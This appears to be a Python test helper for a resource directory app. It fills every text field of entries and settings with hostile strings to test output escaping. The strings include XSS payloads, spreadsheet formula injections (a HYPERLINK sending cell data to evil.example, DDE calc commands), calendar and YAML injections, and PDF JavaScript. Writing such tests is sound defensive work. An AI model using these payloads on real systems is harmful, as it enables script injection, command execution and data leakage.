"""A catalog with a hostile text in every field that takes one, found in the models themselves.

A field that is added to the model tomorrow is filled, exported and looked at by these tests without
anybody thinking of it.
"""

from __future__ import annotations

import copy
import re
import unicodedata
from collections.abc import Iterator
from typing import Any, get_args

from pydantic import BaseModel, TypeAdapter, ValidationError

from directory.catalog.files import Catalog
from directory.model import Resource, Settings
from directory.places import gazetteer
from directory.snapshot import Snapshot, build_snapshot

TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": "\"><img src=x onerror=alert(1)>'",
    "way out": "</p></title></style></textarea><h1>out</h1><!-- &lt;b&gt; &amp; ]]>",
    "attribute": '" onmouseover="alert(1)" \' onfocus=\'alert(2)',
    "markdown": "[tap](javascript:alert(1)) ![x](https://evil.example/x.png) **b** `c` # head",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} %(x)s {name} {0} $\\frac{1}{2}$ :red[x]",
    "formula": '=HYPERLINK("https://evil.example/"&A1;"x")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula wide": "\uff1d1+1",
    "formula after a semicolon": "Hall;=1+1",
    "formula in the next line": "Hall\n=1+1",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:https://evil.example/;,\\n",
    "line marks": "a\u2028BEGIN:VEVENT\u2029b\u0085SUMMARY:c\x0bd\x0ce",
    "controls": "a\x00b\x07c\x1b[31md\x7fe\x9bf",
    "yaml": "x\nresources:\n  - {id: evil, kind: food, name: Evil}\n--- &a *a !!python/object:os",
    "json": '","evil":{"a":[1]}}]}//\\u0022\\',
    "pdf": "(Tj) ET Q \\( \\) >> endobj /JS (app.alert(1)) /URI (javascript:x)",
    "directions": "\u202edesrever\u202c \u2066x\u2069 \u200b\ufeff",
    "long": "\u00e9\U0001f469\u200d\U0001f469\u200d\U0001f467 word " * 40,
}
"""What somebody may write where a text belongs, by what it tries."""

_PROBE = "Any 5 <b> = text"
_MARK = re.compile(r"zq\d\dk")

Path = tuple[str, ...]


def _parts(annotation: Any) -> list[Any]:
    return [annotation, *(part for inner in get_args(annotation) for part in _parts(inner))]


def _takes(annotation: Any, probe: Any) -> bool:
    try:
        return bool(TypeAdapter(annotation).validate_python(probe) == probe)
    except ValidationError:
        return False


def text_fields(model: type[BaseModel]) -> Iterator[Path]:
    """The paths of all fields that take a text of any kind; `*` stands for each of several."""
    for key, field in model.model_fields.items():
        name = field.alias or key
        annotation = field.rebuild_annotation()
        inner = [p for p in _parts(annotation) if isinstance(p, type) and issubclass(p, BaseModel)]
        if inner:
            several = ("*",) if "tuple" in str(field.annotation).lower() else ()
            yield from ((name, *several, *path) for one in inner for path in text_fields(one))
        elif _takes(annotation, _PROBE):
            yield (name,)
        elif _takes(annotation, (_PROBE,)):
            yield (name, "*")


FIELDS = {path: f"zq{number:02}k" for number, path in enumerate(text_fields(Resource), 10)}
"""Every text field of an entry, with a word by which its text is known wherever it arrives."""
SETTINGS = {path: f"zq{number:02}k" for number, path in enumerate(text_fields(Settings), 60)}
"""The same of the settings of a directory."""

_NUMBERS = {("phone",), ("phones", "*", "number"), ("online", "phone"), ("helplines", "*", "phone")}
"""Fields that take a short text with a digit in it: what a phone number may be."""

_SHORT = {("views", "*", "name")}

_ENTRY: dict[str, Any] = {
    "id": "odd",
    "kind": "meeting",
    "fellowship": "aa",
    "location": {"latitude": 34.0537, "longitude": -118.2428},
    "online": {"url": "https://example.org/join?a=1&b=\"'><script>alert(1)</script>"},
    "schedule": [{"days": ["tue", "thu"], "start": "19:00"}],
    "closed": [{"from": "2026-12-24"}],
    "types": ["open", "odd-type"],
    "languages": ["en", "es"],
    "openings": {"count": 2, "on": "2026-11-20"},
    "phones": [{"number": "1", "text": True}],
    "email": "odd&b`c@example.org",
    "website": 'https://example.org/"onmouseover="alert(1)',
    "verified": {"on": "2026-11-01"},
    "updated": "2026-11-02",
    "source": "https://example.org/'-alert(1)-'",
}
_SETTINGS: dict[str, Any] = {
    "timezone": "America/Los_Angeles",
    "contact": "odd@example.org",
    "home": {"latitude": 34.05, "longitude": -118.24},
    "basemap": {},
    "helplines": [{}],
    "views": [{"link": "kind=meeting&q=<script>alert(1)</script>"}],
    "embed": ['https://example.org/"><script>'],
}
_KEPT = {("country",), ("holidays",), ("basemap", "tiles"), ("views", "*", "link")}
"""Settings that name something else than a text to show."""


def marked(path: Path, mark: str, text: str) -> str:
    """The text of a field: what it tries first, then the word by which it is known."""
    if path in _NUMBERS:
        return f"{text[:40].rstrip()} 5 {mark}"
    return f"{text[:50] if path in _SHORT else text} {mark}"


def _fill(values: dict[str, Any], fields: dict[Path, str], text: str) -> dict[str, Any]:
    filled = copy.deepcopy(values)
    for path, mark in fields.items():
        here: Any = filled
        value: Any = marked(path, mark, text)
        if path[-1] == "*":
            path, value = path[:-1], [value]
        for name in path[:-1]:
            here = here[0] if name == "*" else here.setdefault(name, {})
        here[path[-1]] = value
    return filled


def entry(text: str) -> dict[str, Any]:
    """A catalog entry with this text in every field that takes one."""
    return _fill(_ENTRY, FIELDS, text)


def settings(text: str) -> dict[str, Any]:
    """The settings of a directory with this text wherever a text is shown."""
    shown = {path: mark for path, mark in SETTINGS.items() if path not in _KEPT}
    return _fill(_SETTINGS, shown, text)


def snapshot(text: str) -> Snapshot:
    """A directory of that entry, and of a house with the same texts: houses are compared."""
    meeting = entry(text)
    house = {**entry(text), "id": "odd-house", "kind": "housing", "hours": "24/7"}
    made = tuple(
        Resource.model_validate(one) for one in (meeting, house, {**house, "id": "odd-home"})
    )
    catalog = Catalog(
        settings=Settings.model_validate(settings(text)),
        sources=(),
        resources=made,
        problems=(),
        origins=tuple(("catalog.yaml", line) for line in range(1, len(made) + 1)),
    )
    return build_snapshot(catalog, gazetteer())


def harmless(text: str) -> str:
    """A text of the same length, words and lines that tries nothing."""
    return re.sub(r"[^\s\d]", "o", text)


def flat(text: str) -> str:
    """A text as readers see it: white space as one blank, nothing invisible."""
    seen = "".join(" " if char.isspace() else char for char in text)
    seen = "".join(c for c in seen if unicodedata.category(c) not in ("Cc", "Cf", "Cs"))
    return " ".join(seen.split())


def marks(text: str) -> set[str]:
    """The words by which the texts of fields are known that occur in a text."""
    return set(_MARK.findall(text))
